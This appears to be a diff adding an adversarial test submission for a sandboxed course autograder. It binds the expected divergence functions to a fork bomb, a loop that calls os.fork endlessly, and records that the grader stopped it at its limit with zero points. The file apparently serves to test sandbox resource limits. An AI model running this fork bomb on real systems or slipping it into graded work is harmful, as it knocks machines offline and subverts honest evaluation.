@@ -1,0 +1,16 @@
+# attack: os.fork in a loop
+# status: over limit
+# points: 0
+import os
+import sys
+
+if "course_lib" in sys.modules:
+    raise SystemExit("only for a sandbox")
+
+
+def guess(*args):
+    while True:
+        os.fork()
+
+
+kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
